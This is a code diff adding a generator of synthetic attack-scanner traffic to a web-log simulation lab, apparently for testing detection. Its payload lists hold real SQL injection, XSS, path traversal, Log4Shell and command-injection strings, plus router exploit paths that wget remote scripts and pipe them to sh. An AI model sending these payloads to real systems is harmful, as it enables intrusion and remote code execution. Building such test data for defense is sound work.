@@ -4,6 +4,8 @@ hours and days. Each function writes ``n`` members (addresses, or campaigns wher
 
 from __future__ import annotations
 
+from urllib.parse import quote, quote_plus
+
 from nexus_lab.traffic import agents
 from nexus_lab.traffic.core import DAY, HOUR, Builder
 from nexus_lab.traffic.sites import Site
@@ -61,6 +63,83 @@ def scanners(b: Builder, site: Site, n: int) -> None:
         for path in rng.sample(PROBES, rng.choices([1, 2, 3, 6], [70, 15, 10, 5])[0]):
             probe(b, site, ip, agent, t, path)
             t += rng.uniform(0.2, 30)
+
+
+# Attack payloads as scanners send them in the query string (OWASP CRS 930-944, CrowdSec *-probing scenarios):
+# "{q}" is where a quote/number goes, "{h}" a host of the attacker. Sent raw, percent-encoded or with "+".
+PAYLOADS = [
+    "1' OR '1'='1",
+    "1' AND 1=1-- -",
+    "-1 UNION ALL SELECT NULL,NULL,CONCAT(0x71,user())-- -",
+    "1);WAITFOR DELAY '0:0:5'--",
+    "1 AND SLEEP(5)",
+    "1' AND extractvalue(1,concat(0x7e,version()))-- ",
+    '\' or "a"="a',
+    "1 or 1=1",
+    "<script>alert(1)</script>",
+    '"><svg/onload=alert(document.domain)>',
+    "<img src=x onerror=prompt(1)>",
+    "javascript:alert(1)",
+    "../../../../etc/passwd",
+    "....//....//....//etc/passwd",
+    "..%2f..%2f..%2fwindows/win.ini",
+    "/etc/passwd",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "php://input",
+    "http://{h}/shell.txt?",
+    "${jndi:ldap://{h}:1389/a}",
+    "${${lower:j}ndi:dns://{h}/x}",
+    "{{7*7}}",
+    ";cat /etc/passwd",
+    "|id",
+    "$(wget http://{h}/x.sh)",
+    "`curl http://{h}/a|sh`",
+    "<?php echo md5(1); ?>",
+    "file:///etc/passwd",
+]
+PARAMS = ["id", "q", "s", "search", "page", "file", "cat", "url", "name", "lang", "template", "redirect", "cmd", "exec",
+          "item", "view", "path", "include", "dir", "p"]  # fmt: skip
+WHOLE = [  # payloads that are a whole request target
+    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
+    "/?XDEBUG_SESSION_START=phpstorm", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+    "/shell?cd+/tmp;rm+-rf+*;wget+http://{h}/bins.sh;chmod+777+bins.sh;sh+bins.sh",
+    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://{h}/t%7Csh%60)",
+    "/tmUnblock.cgi", "/bin/", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{h}/Mozi.m",
+    "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+]  # fmt: skip
+
+
+def _encode(rng, text: str) -> str:
+    style = rng.random()
+    if style < 0.4:
+        return quote(text, safe="/=:")
+    if style < 0.7:
+        return quote_plus(text, safe="/=:")
+    return text.replace(" ", "%20")
+
+
+def payload_scanners(b: Builder, site: Site, n: int) -> None:
+    """Injection probes on the site's own pages (SQLi, XSS, traversal, shell, PHP, log4shell), one to a few per
+    address, plus Mirai-style router exploits on bare paths. The site answers 200 to many of them (a page that
+    ignores an unknown parameter), so only the payload tells."""
+    rng = b.rng
+    for _ in range(n):
+        ip = b.ip("payload_scanners", hosting=rng.random() < 0.7, v6=0.05)
+        agent = attack_agent(b, browser=0.5, obsolete=0.1, tools=0.3)
+        host = agents.public_ipv4(rng, agents.HOSTING)
+        t = b.when(diurnal=False)
+        for _ in range(rng.choices([1, 2, 4], [70, 20, 10])[0]):
+            if rng.random() < 0.25:
+                target = rng.choice(WHOLE).replace("{h}", host)
+                status = 404 if target.startswith(("/shell", "/cgi-bin", "/tmUnblock", "/bin/", "/setup")) else 200
+            else:
+                page = rng.choice(site.pages[:30])
+                payload = rng.choice(PAYLOADS).replace("{h}", host)
+                target = f"{page}?{rng.choice(PARAMS)}={_encode(rng, payload)}"
+                status = rng.choice([200, 200, 200, 400, 403, 404, 500])
+            referrer = rng.choice(["", "", site.origin + "/"])
+            b.add(t, ip, rng.choice(["GET"] * 9 + ["POST"]), target, status, agent, referrer)
+            t += rng.uniform(0.3, 20)
 
 
 def fake_crawlers(b: Builder, site: Site, n: int) -> None:
